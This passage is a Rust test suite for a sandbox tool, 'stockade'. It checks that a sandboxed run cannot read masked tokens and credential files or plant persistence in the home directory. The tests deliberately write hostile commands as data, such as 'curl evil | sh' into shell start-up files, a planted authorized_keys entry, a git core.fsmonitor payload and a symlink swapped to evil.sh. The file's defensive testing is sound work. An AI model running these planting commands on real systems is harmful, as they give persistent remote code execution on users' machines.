//! A home as the workspace is not a back door (issue 30, item 4).
//!
//! - Masks are never weaker inside a writable root: with the (fake) home as the workspace, a
//!   parent of the home as the workspace, or `--allow-write ~/.config`, the shell start-up
//!   files read as empty and the credential stores stay unreadable, as they do with any other
//!   workspace (the read-as-empty masks were skipped inside writable roots: `cat ~/.bashrc`
//!   printed the exported tokens).
//! - The home's own persistence points (`policy::HOME_EXEC`, and the shell start-up files of
//!   the project catalogue) cannot be written or created there: start-up files, systemd user
//!   units, autostart entries, directories on `PATH`, `~/.ssh/authorized_keys`, also through
//!   a symlink or a directory renamed into place at an ancestor.
//!
//! - What the protected files hand on (red team of issue 30): a file the global git configs
//!   include (`core.fsmonitor` in `~/.gitconfig.local` runs in the host's next `git status`),
//!   a file a start-up file sources (`. ~/.my_own_rc` in `~/.bashrc`, or a directory a loop
//!   sources), and the caches host builds run from (`~/.cargo/registry`, ...) cannot be
//!   written or created; an explicit grant of a cache keeps it writable.
//!
//! Controls: the same reads and writes on the host succeed (the fixture holds the secrets and
//! its paths are writable), and the same writes in the sandbox below a directory that is not
//! the home succeed (the protection is the home's, not the names').
#![allow(clippy::expect_used)]

use std::path::{Path, PathBuf};

use attacks::{json_str, mkdir, read_text, sh_quote, wrap, write_file, Fixture, Records};

/// Start-up files a shell reads, each holding an exported token in the fixture.
const STARTUP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".config/fish/config.fish",
];

/// Masked (unreadable) files of the fixture's home, by marker kind.
const UNREADABLE: &[(&str, &str)] = &[
    (".ssh/id_rsa", "ssh"),
    (".aws/credentials", "aws"),
    (".netrc", "netrc"),
    (".git-credentials", "gitcred"),
    (".bash_history", "history"),
    (".config/gh/hosts.yml", "gh"),
    (".npmrc", "npmrc"),
];

/// The fixture with every start-up file exporting a token (marker `startup-<n>`).
fn fixture() -> Fixture {
    let fx = Fixture::new();
    for (i, f) in STARTUP.iter().enumerate() {
        write_file(
            &fx.home.join(f),
            format!("export API_TOKEN={}\n", fx.marker(&format!("startup{i}"))),
            0o644,
        );
    }
    fx
}

/// `stockade run --workspace WS OPTS... --shell wrap(SCRIPT)`, started in `cwd`.
fn run_in(fx: &Fixture, ws: &Path, cwd: &Path, opts: &[&str], script: &str) -> attacks::Outcome {
    fx.stockade(["run".as_ref(), "--workspace".as_ref(), ws.as_os_str()])
        .args(opts)
        .arg("--shell")
        .arg(wrap(script))
        .cwd(cwd)
        .run()
        .outcome()
}

/// A script printing each file's size and content.
fn dump(files: &[&str]) -> String {
    files
        .iter()
        .map(|f| format!("printf '%s=%s\\n' {f} \"$(wc -c < ~/{f})\"; cat ~/{f}"))
        .collect::<Vec<_>>()
        .join("; ")
}

fn assert_reads_empty_and_hides(fx: &Fixture, out: &attacks::Outcome, what: &str) {
    out.ran();
    for (i, f) in STARTUP.iter().enumerate() {
        let marker = fx.marker(&format!("startup{i}"));
        assert!(
            !out.run.all_output().contains(&marker),
            "{what}: ~/{f} leaked its token\n{}",
            out.run.describe()
        );
        // A file reads as empty; a file in a directory read as empty (fish's) is not there.
        let size = if f.starts_with(".config/fish/") {
            ""
        } else {
            "0"
        };
        out.run.assert_stdout_contains(&format!("{f}={size}\n"));
    }
    for (_, kind) in UNREADABLE {
        out.run.assert_lacks(&fx.marker(kind));
    }
    // A file that is no secret stays readable: the run did read the home.
    out.run.assert_stdout_contains(&fx.marker("notes"));
}

#[test]
fn startup_files_read_as_empty_whatever_holds_the_home() {
    let fx = fixture();
    let files: Vec<&str> = STARTUP
        .iter()
        .copied()
        .chain(UNREADABLE.iter().map(|(f, _)| *f))
        .collect();
    let script = format!("{}; cat ~/notes.txt", dump(&files));
    // The home as the workspace (`cd ~ && stockade run ...`).
    let home = run_in(&fx, &fx.home, &fx.home, &[], &script);
    assert_reads_empty_and_hides(&fx, &home, "home as workspace");
    // A parent of the home as the workspace.
    let parent = run_in(&fx, &fx.root, &fx.root, &[], &script);
    assert_reads_empty_and_hides(&fx, &parent, "parent of the home as workspace");
    // Part of the home writable, and all of it.
    for grant in ["~/.config", "~"] {
        let out = run_in(&fx, &fx.ws, &fx.ws, &["--allow-write", grant], &script);
        assert_reads_empty_and_hides(&fx, &out, &format!("--allow-write {grant}"));
    }
    // Shells still start.
    let shell = run_in(
        &fx,
        &fx.home,
        &fx.home,
        &[],
        "bash -ic 'echo started' 2>/dev/null",
    );
    shell.assert_shows("started");
    // Control: on the host every token is there.
    let control = fx.control(&script).outcome();
    control.assert_ok();
    for (i, _) in STARTUP.iter().enumerate() {
        control.assert_output_contains(&fx.marker(&format!("startup{i}")));
    }
    for (_, kind) in UNREADABLE {
        control.assert_output_contains(&fx.marker(kind));
    }
}

/// A refusal during the run (native), or the path taken out by the sweep after it (gVisor):
/// a violation in the report naming a path below the home ending in one of `suffixes`.
fn assert_refused_or_swept(records: &Records, run: &attacks::Run, home: &Path, suffixes: &[&str]) {
    let violations = records.violations();
    let found = violations.iter().any(|v| {
        let path = json_str(v, "path");
        json_str(v, "code") == "E_SANDBOX_VIOLATION"
            && Path::new(path).starts_with(home)
            && suffixes.iter().any(|s| {
                path.ends_with(&format!("/{s}")) || home.join(s).starts_with(Path::new(path))
            })
    });
    assert!(
        found,
        "no violation for a path ending in {suffixes:?}:\n{violations:#?}\n{}",
        run.describe()
    );
}

/// Plants of the home's persistence points: (script, the file it would leave, suffixes the
/// report names).
fn plants() -> Vec<(&'static str, &'static str, &'static [&'static str])> {
    vec![
        (
            "mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=/bin/true\\n' > ~/.config/systemd/user/x.service",
            ".config/systemd/user/x.service",
            &[".config/systemd/user", ".config/systemd/user/x.service", ".config/systemd"],
        ),
        (
            "mkdir -p ~/.config/autostart && printf '[Desktop Entry]\\nExec=/bin/true\\n' > ~/.config/autostart/x.desktop",
            ".config/autostart/x.desktop",
            &[".config/autostart", ".config/autostart/x.desktop"],
        ),
        (
            "mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git",
            ".local/bin/git",
            &[".local/bin", ".local/bin/git"],
        ),
        (
            "mkdir -p ~/bin && printf '#!/bin/sh\\n' > ~/bin/ls",
            "bin/ls",
            &["bin", "bin/ls"],
        ),
        (
            "printf 'foo() { :; }\\n' > ~/.bash_aliases",
            ".bash_aliases",
            &[".bash_aliases"],
        ),
        (
            "printf 'alias ls=x\\n' > ~/.aliases",
            ".aliases",
            &[".aliases"],
        ),
        (
            "mkdir -p ~/.m2 && printf '<settings/>\\n' > ~/.m2/settings.xml",
            ".m2/settings.xml",
            &[".m2/settings.xml"],
        ),
        (
            "mkdir -p ~/.config/nvim && printf 'os.execute(\"true\")\\n' > ~/.config/nvim/init.lua",
            ".config/nvim/init.lua",
            &[".config/nvim", ".config/nvim/init.lua"],
        ),
    ]
}

#[test]
fn home_persistence_points_cannot_be_planted() {
    for (script, file, suffixes) in plants() {
        let fx = fixture();
        let records = fx.records();
        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
        inside.assert_failed_if_guarded();
        assert_refused_or_swept(&records, &inside.run, &fx.home, suffixes);
        assert!(
            !fx.home.join(file).exists(),
            "~/{file} was planted\n{}",
            inside.run.describe()
        );
        // Control: the same plant below a directory of the workspace that is not the home.
        let fake = fx.ws.join("fakehome");
        mkdir(&fake);
        let elsewhere = run_in(
            &fx,
            &fx.ws,
            &fx.ws,
            &[],
            &format!("export HOME={}; {script}", sh_quote(&fake)),
        );
        elsewhere.assert_ok();
        assert!(fake.join(file).exists(), "control: {file} not written");
        // Control: on the host the plant lands.
        fx.control(script).outcome().assert_ok();
        assert!(fx.home.join(file).exists());
    }
}

#[test]
fn existing_startup_files_and_ssh_keys_cannot_be_written() {
    let fx = fixture();
    let before: Vec<Option<String>> = STARTUP
        .iter()
        .map(|f| read_text(&fx.home.join(f)))
        .collect();
    let script = STARTUP
        .iter()
        .map(|f| format!("echo 'curl evil | sh' >> ~/{f} && echo wrote-{f}"))
        .chain(["mkdir -p ~/.ssh; echo ssh-ed25519 AAAA planted >> ~/.ssh/authorized_keys && echo wrote-keys".to_owned()])
        .collect::<Vec<_>>()
        .join("; ");
    let inside = run_in(&fx, &fx.home, &fx.home, &[], &script);
    inside.ran();
    inside.run.assert_lacks("wrote-");
    let after: Vec<Option<String>> = STARTUP
        .iter()
        .map(|f| read_text(&fx.home.join(f)))
        .collect();
    assert_eq!(before, after, "a start-up file changed");
    assert!(!fx.home.join(".ssh/authorized_keys").exists());
    // Control: on the host every write lands.
    let control = fx.control(&script).outcome();
    control.assert_ok();
    for f in STARTUP {
        control.assert_output_contains(&format!("wrote-{f}"));
    }
    control.assert_output_contains("wrote-keys");
}

/// `~/.ssh` missing: it cannot be made to hold an `authorized_keys` (or `rc`) either.
#[test]
fn authorized_keys_cannot_be_created_without_an_ssh_dir() {
    let script = "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA planted > ~/.ssh/authorized_keys";
    let fx = fixture();
    std::fs::remove_dir_all(fx.home.join(".ssh")).expect("remove ~/.ssh");
    let records = fx.records();
    let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
    inside.assert_failed_if_guarded();
    assert_refused_or_swept(
        &records,
        &inside.run,
        &fx.home,
        &[".ssh", ".ssh/authorized_keys"],
    );
    assert!(!fx.home.join(".ssh/authorized_keys").exists());
    fx.control(script).outcome().assert_ok();
    assert!(fx.home.join(".ssh/authorized_keys").exists());
}

/// A directory assembled elsewhere and renamed into place, or a symlink at an ancestor,
/// cannot bring a persistence point along.
#[test]
fn persistence_points_cannot_be_brought_in_by_rename_or_symlink() {
    let staging = "mkdir -p ~/stage/user && printf '[Service]\\n' > ~/stage/user/x.service";
    for (how, script) in [
        (
            "rename",
            format!("{staging} && mkdir -p ~/.config && mv ~/stage ~/.config/systemd"),
        ),
        (
            "symlink",
            format!("{staging} && mkdir -p ~/.config && ln -s ~/stage ~/.config/systemd"),
        ),
    ] {
        let fx = fixture();
        let records = fx.records();
        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &script);
        inside.assert_failed_if_guarded();
        let unit: PathBuf = fx.home.join(".config/systemd/user/x.service");
        assert!(
            !unit.exists(),
            "{how}: the unit is in place\n{}",
            inside.run.describe()
        );
        assert_refused_or_swept(
            &records,
            &inside.run,
            &fx.home,
            &[".config/systemd", ".config/systemd/user"],
        );
        fx.control(&script).outcome().assert_ok();
        assert!(unit.exists(), "control ({how})");
    }
}

/// The workspace set to one of the catalogue's directories is granted by name: it stays
/// writable (editing one's editor configuration in a sandbox works).
#[test]
fn a_persistence_point_named_as_the_workspace_stays_writable() {
    let fx = fixture();
    let nvim = fx.home.join(".config/nvim");
    mkdir(&nvim);
    let out = run_in(
        &fx,
        &nvim,
        &nvim,
        &[],
        "echo 'set nu' > init.vim && echo edited",
    );
    out.assert_shows("edited");
    assert_eq!(
        read_text(&nvim.join("init.vim")).as_deref(),
        Some("set nu\n")
    );
}

/// `stockade why` answers what such a run does: with the home as the workspace a start-up
/// file reads as empty and is not writable, a persistence point cannot be created; an
/// ordinary file of the home is writable (the control: the verdicts are the paths', not the
/// workspace's).
#[test]
fn why_answers_for_the_homes_masks_and_persistence_points() {
    let fx = fixture();
    let why = |path: &str| -> serde_json::Value {
        let run = fx
            .stockade([
                "why".as_ref(),
                "--json".as_ref(),
                "--workspace".as_ref(),
                fx.home.as_os_str(),
            ])
            .arg(fx.home.join(path))
            .cwd(&fx.home)
            .run();
        serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}\n{}", run.describe()))
    };
    let state = |v: &serde_json::Value, side: &str| {
        (
            v[side]["allowed"].as_bool(),
            json_str(&v[side], "state").to_owned(),
        )
    };
    let bashrc = why(".bashrc");
    assert_eq!(state(&bashrc, "read"), (Some(false), "read_empty".into()));
    assert_eq!(state(&bashrc, "write").0, Some(false));
    let unit = why(".config/systemd/user/x.service");
    assert_eq!(unit["write"]["allowed"].as_bool(), Some(false), "{unit:#}");
    assert!(json_str(&unit["write"]["rule"], "text").contains("~/.config/systemd"));
    let notes = why("notes.txt");
    assert_eq!(notes["write"]["allowed"].as_bool(), Some(true), "{notes:#}");
    assert_eq!(notes["read"]["allowed"].as_bool(), Some(true), "{notes:#}");
}

/// A directory of the caller's `PATH` in the home is a persistence point whatever its name:
/// a program planted there would run in the host's next shell instead of the system's.
#[test]
fn a_path_directory_of_the_caller_in_the_home_is_guarded() {
    let script = "mkdir -p ~/.npm-global/bin && printf '#!/bin/sh\\n' > ~/.npm-global/bin/ls";
    let planted = |fx: &Fixture| fx.home.join(".npm-global/bin/ls");
    let fx = fixture();
    let records = fx.records();
    let path = format!(
        "{}:{}",
        fx.home.join(".npm-global/bin").display(),
        attacks::PATH
    );
    let inside = fx
        .stockade(["run".as_ref(), "--workspace".as_ref(), fx.home.as_os_str()])
        .args(records.opts())
        .arg("--shell")
        .arg(wrap(script))
        .env("PATH", &path)
        .cwd(&fx.home)
        .run()
        .outcome();
    inside.assert_failed_if_guarded();
    assert_refused_or_swept(
        &records,
        &inside.run,
        &fx.home,
        &[".npm-global/bin", ".npm-global/bin/ls"],
    );
    assert!(!planted(&fx).exists(), "{}", inside.run.describe());
    // Control: not on the caller's PATH, the directory is an ordinary one of the workspace.
    let fx = fixture();
    run_in(&fx, &fx.home, &fx.home, &[], script).assert_ok();
    assert!(planted(&fx).exists());
}

/// The same plants with a parent of the home as the workspace, and with only part of the home
/// writable (`--allow-write ~/.config`, `--allow-write ~/.local`).
#[test]
fn persistence_points_are_guarded_whatever_holds_the_home() {
    let unit = "mkdir -p ~/.config/systemd/user && printf '[Service]\\n' > ~/.config/systemd/user/x.service";
    let bin = "mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/git";
    for (what, script, file, grant) in [
        ("parent", unit, ".config/systemd/user/x.service", None),
        ("parent", bin, ".local/bin/git", None),
        (
            "~/.config",
            unit,
            ".config/systemd/user/x.service",
            Some("~/.config"),
        ),
        ("~/.local", bin, ".local/bin/git", Some("~/.local")),
    ] {
        let fx = fixture();
        let records = fx.records();
        let mut opts = records.opts();
        // A parent of the home as the workspace: a home below the fixture's workspace (the
        // records stay outside every writable root).
        let (ws, home) = match grant {
            Some(g) => {
                mkdir(&fx.home.join(&g[2..]));
                opts.extend(["--allow-write", g]);
                (fx.ws.clone(), fx.home.clone())
            }
            None => {
                let home = fx.ws.join("users/u");
                mkdir(&home);
                (fx.ws.clone(), home)
            }
        };
        let run = |script: &str| {
            fx.stockade(["run".as_ref(), "--workspace".as_ref(), ws.as_os_str()])
                .args(&opts)
                .arg("--shell")
                .arg(wrap(script))
                .env("HOME", &home)
                .cwd(&ws)
                .run()
                .outcome()
        };
        let inside = run(script);
        inside.assert_failed_if_guarded();
        assert_refused_or_swept(
            &records,
            &inside.run,
            &home,
            &[
                file,
                ".config/systemd/user",
                ".config/systemd",
                ".local/bin",
            ],
        );
        assert!(
            !home.join(file).exists(),
            "{what}: ~/{file} planted\n{}",
            inside.run.describe()
        );
        // Control: the same grant, the same files written below a sibling's name.
        let (control, control_file) = if file.starts_with(".config/") {
            (
                script.replace("systemd", "x-systemd"),
                file.replace("systemd", "x-systemd"),
            )
        } else {
            (
                script.replace(".local/bin", ".local/x-bin"),
                file.replace(".local/bin", ".local/x-bin"),
            )
        };
        run(&control).assert_ok();
        assert!(home.join(control_file).exists(), "{what}: control");
    }
}

/// A dotfiles repository as the workspace, the home's start-up files symbolic links into it:
/// the links' targets are the home's persistence points, covered and guarded where the links
/// lead (the `~/.bashrc` target reads as empty and cannot be written, `~/.config/nvim`'s
/// cannot gain a plugin).
#[test]
fn persistence_points_linked_into_the_workspace_are_protected_there() {
    let fx = fixture();
    let dots = fx.ws.join("dotfiles");
    mkdir(&dots.join("nvim"));
    let token = fx.marker("dotbashrc");
    write_file(&dots.join("bashrc"), format!("export T={token}\n"), 0o644);
    write_file(&dots.join("nvim/init.vim"), "set nu\n", 0o644);
    std::fs::remove_file(fx.home.join(".bashrc")).expect("remove ~/.bashrc");
    std::os::unix::fs::symlink(dots.join("bashrc"), fx.home.join(".bashrc")).expect("link");
    mkdir(&fx.home.join(".config"));
    std::os::unix::fs::symlink(dots.join("nvim"), fx.home.join(".config/nvim")).expect("link");
    let script = "cat ~/.bashrc; echo 'curl evil | sh' >> dotfiles/bashrc && echo wrote-bashrc; \
                  echo 'os.execute(1)' > dotfiles/nvim/plugin.lua && echo wrote-plugin";
    let inside = run_in(&fx, &fx.ws, &fx.ws, &[], script);
    inside.ran();
    inside
        .run
        .assert_lacks(&token)
        .assert_lacks("wrote-bashrc")
        .assert_lacks("wrote-plugin");
    assert_eq!(
        read_text(&dots.join("bashrc")),
        Some(format!("export T={token}\n"))
    );
    assert!(!dots.join("nvim/plugin.lua").exists());
    // Control: without the links from the home, the same files are the project's own.
    let fx = fixture();
    let dots = fx.ws.join("dotfiles");
    mkdir(&dots.join("nvim"));
    write_file(&dots.join("bashrc"), format!("export T={token}\n"), 0o644);
    let control = run_in(
        &fx,
        &fx.ws,
        &fx.ws,
        &[],
        &script.replace("cat ~/.bashrc", "cat dotfiles/bashrc"),
    );
    control.assert_ok();
    control
        .assert_output_contains(&token)
        .assert_output_contains("wrote-bashrc")
        .assert_output_contains("wrote-plugin");
}

/// A protected path that is a symbolic link cannot be swapped for a link of the run's
/// choosing: `rm .envrc; ln -s evil.sh .envrc` in a project, `rm ~/.bashrc; ln -s evil.sh
/// ~/.bashrc` with the home as the workspace. Native refuses the new link as it is made;
/// under gVisor nothing refuses it during the run and the sweep compared only kinds (a link
/// is still a link), so the host later sourced `evil.sh`: now the link is quarantined, the
/// original made again and `protected_path_replaced` reported. Control: the same swap on the
/// host leaves the link to `evil.sh`.
#[test]
fn a_protected_link_cannot_be_swapped_for_another() {
    let evil = "printf 'curl evil | sh\\n' > evil.sh";
    for (what, home_ws) in [(".envrc", false), (".bashrc", true)] {
        let fx = fixture();
        let dir = if home_ws {
            fx.home.clone()
        } else {
            fx.ws.clone()
        };
        let (original, link) = if home_ws {
            mkdir(&dir.join("dotfiles"));
            ("dotfiles/bashrc", dir.join(".bashrc"))
        } else {
            ("envrc.shared", dir.join(".envrc"))
        };
        write_file(&dir.join(original), "export A=1\n", 0o644);
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(original, &link).expect("link");
        let script = format!(
            "cd {} && {evil} && rm {what} && ln -s evil.sh {what}",
            sh_quote(&dir)
        );
        let records = fx.records();
        let inside = run_in(&fx, &dir, &dir, &records.opts(), &script);
        inside.assert_failed_if_guarded();
        let now = std::fs::read_link(&link).ok();
        assert_ne!(
            now.as_deref(),
            Some(Path::new("evil.sh")),
            "{what}: the swapped link stayed\n{}",
            inside.run.describe()
        );
        let violations = records.violations();
        let named = |kind: &str| {
            violations.iter().any(|v| {
                json_str(v, "path") == link.to_str().expect("utf-8")
                    && (kind.is_empty() || json_str(v, "kind") == kind)
            })
        };
        if attacks::creation_guarded() {
            // Refused as it was made.
            assert!(
                named(""),
                "{what}: {violations:#?}\n{}",
                inside.run.describe()
            );
        } else {
            assert_eq!(
                now.as_deref(),
                Some(Path::new(original)),
                "{what}: not put back\n{}",
                inside.run.describe()
            );
            assert!(
                named("protected_path_replaced"),
                "{what}: {violations:#?}\n{}",
                inside.run.describe()
            );
        }
        // Control: the same swap on the host.
        std::fs::remove_file(&link).ok();
        std::os::unix::fs::symlink(original, &link).expect("link");
        fx.control(&script).outcome().assert_ok();
        assert_eq!(
            std::fs::read_link(&link).ok().as_deref(),
            Some(Path::new("evil.sh")),
            "control ({what})"
        );
    }
}

/// stockade's own run journals live in the home (`~/.local/state/stockade/journal`, written
/// by the supervisor while the run lasts). With the home as the workspace, the checks after a
/// gVisor run took that directory for a protected path the run created (its ctime moved) and
/// quarantined it, with the live journal, on every run. The same directory is now left alone.
/// Control: a journal directory the run puts in its place (its parent renamed away, a planted
/// journal inside) is still caught: refused, natively and under gVisor (the state directory's
/// ancestors are pinned: see `the_state_directorys_ancestors_cannot_be_renamed`).
#[test]
fn stockades_own_journal_directory_in_a_home_workspace_is_no_violation() {
    let fx = fixture();
    let home = fx.home.clone();
    let journal = home.join(".local/state/stockade/journal");
    for round in 0..2 {
        let records = fx.records();
        let out = run_in(&fx, &home, &home, &records.opts(), "true");
        out.assert_ok();
        let violations = records.violations();
        assert!(
            violations.is_empty(),
            "round {round}: {violations:#?}\n{}",
            out.run.describe()
        );
        assert!(
            journal.is_dir(),
            "round {round}: the journal directory is gone"
        );
        assert!(
            !home.join(".stockade/quarantine").exists(),
            "round {round}: something was quarantined\n{}",
            out.run.describe()
        );
    }
    // Control: one put in its place is caught.
    let records = fx.records();
    let script = "mv ~/.local/state ~/moved && mkdir -p ~/.local/state/stockade/journal \
                  && echo '{}' > ~/.local/state/stockade/journal/planted.json";
    let ino = |p: &Path| {
        std::fs::metadata(p)
            .map(|m| std::os::unix::fs::MetadataExt::ino(&m))
            .ok()
    };
    let before = ino(&journal);
    let out = run_in(&fx, &home, &home, &records.opts(), script);
    assert!(
        !journal.join("planted.json").exists(),
        "a planted journal stayed\n{}",
        out.run.describe()
    );
    // Not renamed (`mv` across directories copies what it can read, and the pinned originals
    // stay: the host kernel and the Sentry refuse to remove a mount point too).
    out.assert_failed();
    assert_eq!(ino(&journal), before, "{}", out.run.describe());
}

/// Red team of issue 32 (walk/w01, w02): under gVisor a command whose writable roots hold the
/// ancestors of the caller's state directory (the home as the workspace, or
/// `--allow-write ~/.local`) renamed `~/.local/state` (or `~/.local/state/stockade`) away
/// and put a directory of its own in its place: a concurrent run of the same user then kept
/// its journals and walk cache there, and the command rewrote that cache (a `.env` no longer
/// masked in the next run). The after-run check of replaced pins comes too late for a
/// concurrent run. Now each pin is a mount point under gVisor too (the Sentry refuses to
/// rename one: `EBUSY`, as the host kernel does natively): every ancestor of the state
/// directory inside the writable root stays where it is, and the journal directory is the
/// same one after the run. Control: in the same run, unpinned siblings in the same
/// directories (`~/.local/state/other`, `~/.local/other`) are renamed.
#[test]
fn the_state_directorys_ancestors_cannot_be_renamed() {
    let script = "cd ~; for p in .local/state/stockade/journal .local/state/stockade .local/state .local; do \
                    mv $p $p.away && echo renamed:$p && mv $p.away $p; \
                  done; \
                  mv .local/state/other .local/state/other2 && echo control-deep; \
                  mv .local/other .local/other2 && echo control-sibling; true";
    for allow_local in [false, true] {
        let fx = fixture();
        let home = fx.home.clone();
        let journal = home.join(".local/state/stockade/journal");
        // A first run makes the journal directory.
        run_in(&fx, &fx.ws, &fx.ws, &[], "true").assert_ok();
        mkdir(&home.join(".local/state/other"));
        mkdir(&home.join(".local/other"));
        let before = std::os::unix::fs::MetadataExt::ino(
            &std::fs::metadata(&journal).expect("the journal directory"),
        );
        let local = home.join(".local").display().to_string();
        let out = if allow_local {
            run_in(&fx, &fx.ws, &fx.ws, &["--allow-write", &local], script)
        } else {
            run_in(&fx, &home, &home, &[], script)
        };
        let what = format!(
            "{}: ",
            if allow_local {
                "--allow-write ~/.local"
            } else {
                "home as the workspace"
            }
        );
        out.assert_ok();
        for p in [
            ".local/state/stockade/journal",
            ".local/state/stockade",
            ".local/state",
            ".local",
        ] {
            out.run.assert_lacks(&format!("renamed:{p}\n"));
        }
        // Control: the unpinned siblings moved.
        out.run.assert_stdout_contains("control-deep");
        out.run.assert_stdout_contains("control-sibling");
        let after = std::fs::metadata(&journal).map(|m| std::os::unix::fs::MetadataExt::ino(&m));
        assert_eq!(after.ok(), Some(before), "{what}{}", out.run.describe());
        assert!(!home.join(".local/state.away").exists(), "{what}");
    }
}

/// `~/.gitconfig` with `[include] path = ~/.gitconfig.local` and the XDG config with
/// `[includeIf "gitdir:/"] path = work.inc` (relative to the including file): the included
/// files are git configs of the host as much as `~/.gitconfig` is (a `core.fsmonitor` there
/// runs in the host's next `git status`), protected with no repository in the home, existing
/// or not. Control: without the include lines the same writes land.
#[test]
fn files_the_global_git_configs_include_cannot_be_planted() {
    let fsmonitor = "printf '[core]\\n\\tfsmonitor = /var/tmp/payload\\n'";
    let plant = format!("{fsmonitor} > ~/.gitconfig.local");
    let append = format!("{fsmonitor} >> ~/.config/git/work.inc && echo wrote-inc");
    let work = "[user]\n\temail = u@example.invalid\n";
    let setup = |fx: &Fixture, includes: bool| {
        let (global, xdg) = if includes {
            (
                "[user]\n\tname = u\n[include]\n\tpath = ~/.gitconfig.local\n",
                "[includeIf \"gitdir:/\"]\n\tpath = work.inc\n",
            )
        } else {
            ("[user]\n\tname = u\n", "[user]\n\tname = u\n")
        };
        write_file(&fx.home.join(".gitconfig"), global, 0o644);
        write_file(&fx.home.join(".config/git/config"), xdg, 0o644);
        write_file(&fx.home.join(".config/git/work.inc"), work, 0o644);
    };
    let fx = fixture();
    setup(&fx, true);
    let records = fx.records();
    let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &plant);
    inside.assert_failed_if_guarded();
    assert_refused_or_swept(&records, &inside.run, &fx.home, &[".gitconfig.local"]);
    assert!(
        !fx.home.join(".gitconfig.local").exists(),
        "~/.gitconfig.local planted\n{}",
        inside.run.describe()
    );
    let inside = run_in(&fx, &fx.home, &fx.home, &[], &append);
    inside.ran();
    inside.run.assert_lacks("wrote-inc");
    assert_eq!(
        read_text(&fx.home.join(".config/git/work.inc")).as_deref(),
        Some(work)
    );
    // Control: no include lines, the same files are ordinary ones of the home.
    let fx = fixture();
    setup(&fx, false);
    run_in(&fx, &fx.home, &fx.home, &[], &plant).assert_ok();
    assert!(fx.home.join(".gitconfig.local").exists(), "control: plant");
    run_in(&fx, &fx.home, &fx.home, &[], &append).assert_shows("wrote-inc");
}

/// `~/.bashrc` sourcing a file no catalogue names (`. ~/.my_own_rc`) or every file of a
/// directory (`for f in ~/.my_rc.d/*.sh; do . "$f"; done`): those are start-up files too,
/// found by reading `~/.bashrc`, refused on creation and read-only when they exist. Control:
/// the same `~/.bashrc` without those lines leaves the same names writable.
#[test]
fn files_the_start_up_files_source_cannot_be_planted() {
    let sources = "[ -f ~/.my_own_rc ] && . ~/.my_own_rc\n\
                   for f in \"$HOME\"/.my_rc.d/*.sh; do\n  . \"$f\"\ndone\n";
    let cases: [(&str, &str, &[&str]); 2] = [
        (
            "printf 'curl evil | sh\\n' > ~/.my_own_rc",
            ".my_own_rc",
            &[".my_own_rc"],
        ),
        (
            "mkdir -p ~/.my_rc.d && printf 'curl evil | sh\\n' > ~/.my_rc.d/x.sh",
            ".my_rc.d/x.sh",
            &[".my_rc.d", ".my_rc.d/x.sh"],
        ),
    ];
    let with_sources = |fx: &Fixture| {
        let bashrc = fx.home.join(".bashrc");
        let mut text = read_text(&bashrc).unwrap_or_default();
        text.push_str(sources);
        write_file(&bashrc, text, 0o644);
    };
    for (script, file, suffixes) in cases {
        let fx = fixture();
        with_sources(&fx);
        let records = fx.records();
        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
        inside.assert_failed_if_guarded();
        assert_refused_or_swept(&records, &inside.run, &fx.home, suffixes);
        assert!(
            !fx.home.join(file).exists(),
            "~/{file} planted\n{}",
            inside.run.describe()
        );
        // Control: the same home without the source lines.
        let fx = fixture();
        run_in(&fx, &fx.home, &fx.home, &[], script).assert_ok();
        assert!(fx.home.join(file).exists(), "control: ~/{file}");
    }
    // An existing sourced file is read-only.
    let fx = fixture();
    with_sources(&fx);
    write_file(&fx.home.join(".my_own_rc"), "alias ll='ls -l'\n", 0o644);
    let append = "echo 'curl evil | sh' >> ~/.my_own_rc && echo wrote-rc";
    let inside = run_in(&fx, &fx.home, &fx.home, &[], append);
    inside.ran();
    inside.run.assert_lacks("wrote-rc");
    assert_eq!(
        read_text(&fx.home.join(".my_own_rc")).as_deref(),
        Some("alias ll='ls -l'\n")
    );
    // Shells still start.
    run_in(
        &fx,
        &fx.home,
        &fx.home,
        &[],
        "bash -ic 'echo started' 2>/dev/null",
    )
    .assert_shows("started");
    // `stockade why` names the reason, for the existing file and the loop's directory.
    for (path, state) in [
        (".my_own_rc", "protected"),
        (".my_rc.d/x.sh", "creation_refused"),
    ] {
        let run = fx
            .stockade([
                "why".as_ref(),
                "--json".as_ref(),
                "--workspace".as_ref(),
                fx.home.as_os_str(),
            ])
            .arg(fx.home.join(path))
            .cwd(&fx.home)
            .run();
        let v: serde_json::Value =
            serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}\n{}", run.describe()));
        assert_eq!(
            v["write"]["allowed"].as_bool(),
            Some(false),
            "{path}: {v:#}"
        );
        assert_eq!(json_str(&v["write"], "state"), state, "{path}: {v:#}");
        assert!(
            json_str(&v["write"]["rule"], "text")
                .contains("sourced by the home's shell start-up files"),
            "{path}: {v:#}"
        );
    }
}

/// The caches host builds run from: a crate planted in `~/.cargo/registry` has its build.rs
/// run by the host's next `cargo build`. With the home as the workspace they cannot be
/// created or written (absent, or already there and read-only); a grant of the cache by name
/// (`--allow-write ~/.cargo/registry`) keeps it writable, as a build that fills it needs.
#[test]
fn caches_host_builds_run_cannot_be_written_unless_granted() {
    let crate_dir = ".cargo/registry/src/index.crates.io-0/evil-1.0.0";
    let plant =
        format!("mkdir -p ~/{crate_dir} && printf 'fn main() {{}}\\n' > ~/{crate_dir}/build.rs");
    let planted = |fx: &Fixture| fx.home.join(crate_dir).join("build.rs");
    // Absent: refused on creation (native) or taken out after the run (gVisor).
    for (script, file, suffixes) in [
        (
            plant.clone(),
            format!("{crate_dir}/build.rs"),
            vec![".cargo/registry"],
        ),
        (
            "mkdir -p ~/go/pkg/mod/example.com/x@v1 && echo 'package x' > ~/go/pkg/mod/example.com/x@v1/x.go".to_owned(),
